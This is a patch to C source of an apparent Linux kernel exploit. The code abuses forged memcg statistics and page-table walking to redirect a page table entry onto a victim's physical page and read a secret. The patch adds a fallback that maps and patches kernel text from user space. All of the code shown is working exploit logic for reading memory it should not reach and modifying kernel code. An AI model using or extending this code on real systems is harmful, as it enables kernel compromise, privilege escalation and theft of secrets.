@@ -217,6 +217,7 @@ static volatile char *own_page_behind(uint64_t phys, struct slot *slot)
 				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
 	int i;
 
+	madvise((void *)own, OWN_PAGES * PAGE_SIZE, MADV_NOHUGEPAGE);
 	for (i = 0; i < OWN_PAGES; i++, own += PAGE_SIZE) {
 		*own = 1;
 		if (!kwalk((uint64_t)own, LEVEL_PTE, 0, slot) && slot->phys > phys)
@@ -237,26 +238,42 @@ static void count_mapping(uint64_t phys)
 	add_reference(page, 1);
 }
 
+static enum outcome move_down(const struct statistics *stats, int fd, volatile char **own,
+			      uint64_t phys)
+{
+	struct slot slot;
+	int err;
+
+	*own = own_page_behind(phys, &slot);
+	if (!*own)
+		return broken("no page of ours behind");
+	err = move_entry(stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
+	if (!((slot.value ^ kread64(slot.slot)) & PTE_PFN_MASK))
+		return lost("the stores gave %d, and the entry is as it was", err);
+	flush_tlb();
+	count_mapping(phys);
+	return WON;
+}
+
+/* Where none of ours is behind the victim's page it is kernel text. */
 enum outcome memcg_statistics(void)
 {
-	int fd = memfd_create("statistics", 0), err;
-	uint64_t phys = victim_phys() & -PAGE_SIZE;
+	int fd = memfd_create("statistics", 0);
 	struct statistics stats;
+	enum outcome outcome;
 	volatile char *own;
-	struct slot slot;
 	char text[64];
 
 	stay_on_cpu(0);
 	if (fd < 0 || ftruncate(fd, FILE_PAGES * PAGE_SIZE) || !forge_statistics(&stats, fd))
 		return broken("no statistics found");
-	own = own_page_behind(phys, &slot);
-	if (!own)
-		return broken("no page behind the victim's");
-	err = move_entry(&stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
-	if (((slot.value ^ kread64(slot.slot)) & PTE_PFN_MASK) == 0)
-		return lost("the stores gave %d, and the entry is as it was", err);
-	flush_tlb();
-	count_mapping(phys);
-	snprintf(text, sizeof(text), "%s", (char *)own);
-	return judge_secret(text, err);
+	outcome = move_down(&stats, fd, &own, victim_phys() & -PAGE_SIZE);
+	if (outcome == WON) {
+		snprintf(text, sizeof(text), "%s", (char *)own);
+		return judge_secret(text, 0);
+	}
+	if (outcome == BROKEN)
+		outcome = move_down(&stats, fd, &own, text_phys() & -PAGE_SIZE);
+	return outcome == WON ? patch_text_in_user_mapping((char *)own + text_phys() % PAGE_SIZE) :
+				outcome;
 }
